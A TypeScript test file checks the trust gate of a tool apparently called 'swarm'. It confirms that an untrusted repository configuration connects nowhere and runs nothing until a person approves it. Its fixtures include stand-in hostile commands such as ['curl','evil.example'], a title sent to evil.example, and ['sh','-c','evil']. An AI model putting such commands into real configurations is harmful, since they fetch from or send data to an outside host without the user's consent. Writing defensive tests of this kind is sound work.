import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  realpathSync,
  renameSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs'
import { createServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { loadRoot, parseConfig } from '../../src/root/config.ts'
import { showActive } from '../../src/root/show-active.ts'
import { activeKeys, hashOf, passiveConfig } from '../../src/root/trust.ts'
import { openAt } from '../commands/setup-support.ts'
import { testDatabase } from '../support/database.ts'

const { url } = await testDatabase()
const scratch = mkdtempSync(join(realpathSync(tmpdir()), 'swarm-trust-'))
const servers: Server[] = []
afterAll(() => {
  for (const server of servers) server.close()
  rmSync(scratch, { recursive: true, force: true })
})

const GATE = '[workflows.w]\nstages = [{ name = "a", gate = ["curl", "evil.example"] }]\n'

/** A working copy with this configuration, and a user who has trusted nothing. */
function clone(config: string) {
  const dir = mkdtempSync(join(scratch, 'clone-'))
  mkdirSync(join(dir, '.swarm'))
  const configure = (text: string) => writeFileSync(join(dir, '.swarm', 'config.toml'), text)
  configure(config)
  const home = mkdtempSync(join(scratch, 'home-'))
  return { dir, home, env: { HOME: home, SWARM_TRUST: '' }, configure }
}

/** A server that hangs up, and counts. */
async function listener() {
  let connections = 0
  const server = createServer((socket) => {
    connections += 1
    socket.on('error', () => {})
    socket.destroy()
  })
  servers.push(server)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('no port')
  return {
    port: address.port,
    url: `postgres://u:hunter2@127.0.0.1:${address.port}/db`,
    count: () => connections,
  }
}

it('the active keys are those that name a server, a command, where to push, whom to tell or whom to believe', () => {
  const config = parseConfig(
    `repo = "r"
retention = "1d"
database_url = "postgres://u:hunter2@h/db"
listen_url = "postgres://u:hunter2@l/db"
${GATE}
[landing]
target = "main"
remote = "https://u:hunter2@git.example/x"
mode = "pull_request"
pull_request = { open = ["curl", "evil.example/{title}"] }
[agents.default]
adapter = "command"
command = ["sh", "-c", "evil"]
env = { KEY = "hunter2" }
[notify.ops]
kind = "webhook"
url = "https://hooks.example/hunter2"
secret_env = "SWARM_NOTIFY_OPS"
[orchestrator]
workspace = "command"
workspace_command = { create = ["./clone"] }
[[rules]]
name = "words"
match = { type = "docs" }
adapter = "codex"
model = "large"
[http]
streams = 7
trust_proxy = ["192.0.2.1"]
`,
    'config.toml',
  )
  const active = activeKeys(config)
  if (!active) throw new Error('there are active keys')
  expect(passiveConfig(config)).toEqual({
    repo: 'r',
    retention: '1d',
    landing: { target: 'main' },
    orchestrator: { workspace: 'command' },
    http: { streams: 7 },
  })
  expect(showActive(active)).toEqual({
    does: [
      'connect to postgres://u:***@h/db',
      'listen at postgres://u:***@l/db',
      'push to https://u:***@git.example/x',
      'tell hooks.example what happens, as ops, with the secret in SWARM_NOTIFY_OPS',
      'believe what 192.0.2.1 says of where requests come from',
      'run ["curl","evil.example/{title}"] to open pull requests',
      'open and ask for pull requests with gh',
      'run ["curl","evil.example"] as the gate of w.a',
      'run command ["sh","-c","evil"] for the role default, with KEY set',
      'run ["./clone"] to make the workspace of each bead',
      'give beads of rule 1 (words) model large, adapter codex',
    ],
    more: 0,
  })
  // each of them counts
  const hashes = Object.keys(active).map((key) => hashOf({ ...active, [key]: undefined }))
  expect(new Set([hashOf(active), ...hashes]).size).toBe(11)
})

describe('a configuration that nobody has trusted', () => {
  it('connects nowhere and runs nothing, and says what it would do', async () => {
    const { url: theirs, count } = await listener()
    const { dir, env } = clone(`repo = "theirs"\ndatabase_url = "${theirs}"\n${GATE}`)
    const place = openAt(dir, env)
    const { code, msg, ctx, fix } = await place.refused({ cmd: 'status' })
    // an agent sends a fix unread: consent is for a person, who reads it in the message
    expect({ code, fix }).toEqual({ code: 'INVALID', fix: undefined })
    expect(msg).toContain('["curl","evil.example"]')
    expect(msg).toContain(`\`swarm trust\` in ${dir}`)
    expect(ctx.would).toEqual([
      `connect to ${theirs.replace('hunter2', '***')}`,
      'run ["curl","evil.example"] as the gate of w.a',
    ])
    for (const cmd of ['help', 'describe', 'prompt']) await place.ask({ cmd })
    const { checks } = await place.ask({ cmd: 'doctor' })
    expect(checks).toEqual(expect.arrayContaining([expect.objectContaining({ name: 'trust', ok: false })]))
    expect(JSON.stringify(checks)).not.toMatch(/hunter2|"cmd":"trust"/)
    expect(count()).toBe(0)

    // what the error showed is trusted, and used from then on, also by a process that has refused before
    expect(await place.ask({ cmd: 'trust', hash: ctx.hash ?? null })).toMatchObject({
      root: dir,
      changed: true,
    })
    expect(await place.refused({ cmd: 'status', connect_timeout_ms: 200 })).toMatchObject({
      code: 'DEPENDENCY',
    })
    expect(count()).toBeGreaterThan(0)
  })

  it('puts no gate into a database that the environment names', async () => {
    const { dir, env } = clone(`repo = "gates-${process.pid}"\n${GATE}`)
    const place = openAt(dir, { ...env, DATABASE_URL: url })
    expect(await place.refused({ cmd: 'init-db' })).toMatchObject({
      code: 'INVALID',
      ctx: { field: 'trust' },
    })
    expect(await place.refused({ cmd: 'up' })).toMatchObject({ code: 'INVALID', ctx: { field: 'trust' } })
    const other = openAt(dir, { ...env, DATABASE_URL: url })
    expect(await other.refused({ cmd: 'init-db' })).toMatchObject({ code: 'INVALID' })
    await place.ask({ cmd: 'trust' })
    // also for a process that has refused before
    expect(await other.ask({ cmd: 'init-db' })).toMatchObject({ workflows: { added: ['w'] } })
  })

  it('is one again when it names nothing any more: its gates are not given up unasked', async () => {
    const { dir, env, configure } = clone(`repo = "emptied-${process.pid}"\n${GATE}`)
    const before = openAt(dir, { ...env, DATABASE_URL: url })
    await before.ask({ cmd: 'trust' })
    await before.ask({ cmd: 'init-db' })
    configure(`repo = "emptied-${process.pid}"\n[workflows.w]\nstages = [{ name = "a" }]\n`)
    const after = openAt(dir, { ...env, DATABASE_URL: url })
    const { code, msg, ctx } = await after.refused({ cmd: 'init-db' })
    expect({ code, field: ctx.field, would: ctx.would }).toEqual({
      code: 'INVALID',
      field: 'trust',
      would: [],
    })
    expect(msg).toContain('names none now')
    expect(await after.ask({ cmd: 'trust', hash: ctx.hash ?? null })).toMatchObject({ changed: true })
    expect(await after.ask({ cmd: 'trust' })).toMatchObject({ changed: false })
    await after.ask({ cmd: 'init-db' })
  })

  it('tells nobody what happens, and whom it names is not connected to', async () => {
    const { port, count } = await listener()
    const { dir, env } = clone(`repo = "told-${process.pid}"
[notify.ops]
kind = "webhook"
url = "http://127.0.0.1:${port}/hook"
secret_env = "SWARM_NOTIFY_OPS"
allow_private = ["127.0.0.1"]
`)
    const secret = `whsec_${Buffer.alloc(32, 1).toString('base64')}`
    const place = openAt(dir, { ...env, DATABASE_URL: url, SWARM_NOTIFY_OPS: secret })
    for (const action of ['test', 'run'])
      expect(await place.refused({ cmd: 'notify', action, rid: action })).toMatchObject({
        code: 'INVALID',
        fix: undefined,
        ctx: { field: 'trust', would: [expect.stringContaining(`tell 127.0.0.1:${port} what happens`)] },
      })
    expect(count()).toBe(0)
    await place.ask({ cmd: 'trust' })
    // the receiver hangs up, but it was connected to
    expect(await place.refused({ cmd: 'notify', action: 'test', rid: 't' })).toMatchObject({
      code: 'DEPENDENCY',
    })
    expect(count()).toBe(1)
  })

  it('names no proxy whose word is taken', () => {
    const { dir, env } = clone('repo = "r"\n[http]\nstreams = 7\ntrust_proxy = ["127.0.0.1"]\n')
    expect(loadRoot(dir, env)).toMatchObject({
      config: { http: { streams: 7 } },
      distrust: { code: 'INVALID' },
    })
    expect(loadRoot(dir, env)?.config.http?.trust_proxy).toBeUndefined()
    expect(loadRoot(dir, { ...env, SWARM_TRUST: '1' })?.config.http?.trust_proxy).toEqual(['127.0.0.1'])
  })

  it('is one again when what names servers and commands has changed, and not when other things have', () => {
    const { dir, env, configure, home } = clone(GATE)
    return openAt(dir, env)
      .ask({ cmd: 'trust' })
      .then(() => {
        const own = join(home, '.config/swarm/trusted')
        expect(readdirSync(own).map((name) => statSync(join(own, name)).mode & 0o777)).toEqual([0o600])
        configure(`repo = "other"\n${GATE}`)
        expect(loadRoot(dir, env)?.distrust).toBeUndefined()
        configure(GATE.replace('evil', 'other'))
        expect(loadRoot(dir, env)).toMatchObject({ config: {}, distrust: { code: 'INVALID' } })
        expect(loadRoot(dir, { ...env, SWARM_TRUST: '1' })?.distrust).toBeUndefined()
      })
  })

  it('is one where it was copied to, or where another directory has taken its place', async () => {
    const { dir, env } = clone(GATE)
    await openAt(dir, env).ask({ cmd: 'trust' })
    const copy = join(scratch, 'copy')
    cpSync(dir, copy, { recursive: true })
    expect(loadRoot(copy, env)?.distrust).toBeDefined()
    renameSync(join(dir, '.swarm'), join(dir, 'old'))
    cpSync(join(dir, 'old'), join(dir, '.swarm'), { recursive: true })
    expect(loadRoot(dir, env)?.distrust).toBeDefined()
  })

  it('is trusted as it was shown only', async () => {
    const { dir, env, configure } = clone(GATE)
    const place = openAt(dir, { ...env })
    const { ctx } = await place.refused({ cmd: 'status' })
    configure(GATE.replace('curl', 'wget'))
    expect(await place.refused({ cmd: 'trust', hash: ctx.hash ?? null })).toMatchObject({ code: 'CONFLICT' })
  })

  it('is not trusted by what swarm has started for a bead', async () => {
    const { dir, env } = clone(GATE)
    expect(await openAt(dir, { ...env, SWARM_FENCE: '7' }).refused({ cmd: 'trust' })).toMatchObject({
      code: 'UNAUTHORIZED',
    })
    expect(loadRoot(dir, env)?.distrust).toBeDefined()
  })

  it('lets the embedded server be started and stopped, which touches nothing that it names', async () => {
    const { url: theirs, count } = await listener()
    const { dir, env } = clone(`repo = "theirs"\ndatabase_url = "${theirs}"\n${GATE}`)
    const place = openAt(dir, { ...env, PATH: process.env.PATH ?? '' })
    expect(await place.refused({ cmd: 'init-local-db' })).toMatchObject({
      code: 'INVALID',
      ctx: { field: 'trust' },
    })
    expect(existsSync(join(dir, '.swarm', 'pg'))).toBe(false)
    expect(await place.ask({ cmd: 'db', action: 'start' })).toMatchObject({ running: true })
    expect(await place.refused({ cmd: 'status' })).toMatchObject({ code: 'INVALID', ctx: { field: 'trust' } })
    expect(await place.ask({ cmd: 'db', action: 'stop' })).toMatchObject({ running: false })
    expect(count()).toBe(0)
  }, 120_000)
})

it('one that names no server and no command needs no trust', () => {
  const { dir } = clone('repo = "plain"\n[workflows.w]\nstages = [{ name = "a" }]\n')
  expect(loadRoot(dir, { HOME: '/nonexistent' })).toEqual({
    path: dir,
    config: { repo: 'plain', workflows: { w: { stages: [{ name: 'a' }] } } },
  })
})
